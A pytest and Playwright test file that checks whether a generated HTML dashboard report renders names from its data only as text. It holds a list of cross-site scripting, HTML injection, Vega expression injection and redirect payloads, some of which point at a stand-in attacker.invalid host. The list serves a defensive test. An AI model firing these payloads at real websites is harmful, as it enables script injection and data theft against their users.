"""Tests that names from the data are only text in the report: they run no code, load nothing and change no element."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from browser import OpenReport, Rows, datasets_in, open_browser
from cdp_local.report.dashboard import read_dashboard
from cdp_local.report.page import DASHBOARD, write_page
from cdp_local.workspace import PROJECT

pytestmark = pytest.mark.first_engine

RUN = "window.attacked=1;console.log('attacked')"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of script in capitals": f'</SCRIPT ><img src=x onerror="{RUN}">',
    "comment": f"<!--<script>{RUN}</script>",
    "end of comment": f'--><img src=x onerror="{RUN}">',
    "image": f'<img src=x onerror="{RUN}">',
    "image without quotes": "<img src=x onerror=window.attacked=1>",
    "svg": f'<svg onload="{RUN}">',
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "link": f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute in single quotes": f"' onmouseover='{RUN}' x='",
    "style": "<style>*{background:url(http://attacker.invalid/)}</style>",
    "remote": "<link rel=stylesheet href=http://attacker.invalid/x><script src=//attacker.invalid/x></script>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    "form": "<form action=http://attacker.invalid/><button autofocus>x",
    "entities": "&lt;script&gt;window.attacked=1&lt;/script&gt;&#60;img src=x&#62;",
    "escapes": "\\u003cscript\\u003ewindow.attacked=1\\u003c/script\\u003e",
    "template": f"${{{RUN}}}{{{{{RUN}}}}}`",
    "vega expression": "datum.x'];window.attacked=1;datum['x",
    "vega signal": '{"signal": "window.attacked=1"}',
    "vega address": '{"url": "http://attacker.invalid/data.json", "image": "http://attacker.invalid/x.png"}',
    "prototype": "__proto__",
    "line separators": f"\u2028{RUN}\u2029",
    "right to left": "\u202e<tpircs>\u202c",
}
ELEMENTS = "script, img, iframe, object, embed, form, link, meta, base, style, a, button, svg foreignObject, svg image"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as browser:
        yield browser


def elements(opened: OpenReport) -> dict[str, int]:
    """Return the number of elements of each kind that could run code or load something."""
    names = opened.page.eval_on_selector_all(ELEMENTS, "all => all.map(one => one.localName)")
    return {name: names.count(name) for name in names}


@pytest.fixture(scope="module")
def clean(browser: Browser, whole_home: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, int]:
    """Elements of the report without hostile names."""
    path = tmp_path_factory.mktemp("clean") / "report.html"
    datasets = datasets_in(whole_home / "report.html")
    write_page(path, read_dashboard(PROJECT / DASHBOARD), datasets, whole_home / "cache")
    opened = OpenReport(browser, path)
    found = elements(opened)
    opened.page.close()
    return found


def with_names(datasets: dict[str, Rows], payload: str, keep: set[str]) -> dict[str, Rows]:
    """Put a payload before every name in the rows. Dates, and the values in `keep`, stay as they are."""

    def changed(value: object) -> object:
        is_name = isinstance(value, str) and value not in keep and not value[:4].isdecimal()
        return f"{payload}{value}" if is_name else value

    return {
        name: [{key: changed(value) for key, value in row.items()} for row in rows] for name, rows in datasets.items()
    }


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_hostile_name_is_shown_as_text(
    browser: Browser, whole_home: Path, clean: dict[str, int], tmp_path: Path, payload: str
) -> None:
    dashboard = read_dashboard(PROJECT / DASHBOARD)
    datasets = with_names(
        datasets_in(whole_home / "report.html"), payload, {each.default for each in dashboard.filters}
    )
    write_page(tmp_path / "report.html", dashboard, datasets, whole_home / "cache")

    opened = OpenReport(browser, tmp_path / "report.html")
    opened.page.locator("#revenue-by-country svg [role=graphics-symbol]").first.hover(force=True)  # shows a tooltip
    opened.page.select_option("#country-filter", f"{payload}Egypt")
    opened.wait()

    assert opened.console == []
    assert opened.requested == [(tmp_path / "report.html").as_uri()]
    assert opened.page.evaluate("window.attacked") is None
    assert elements(opened) == clean
    assert opened.page.locator("#store-table td").first.text_content() == datasets["stores"][0]["store_name"]
    opened.page.close()
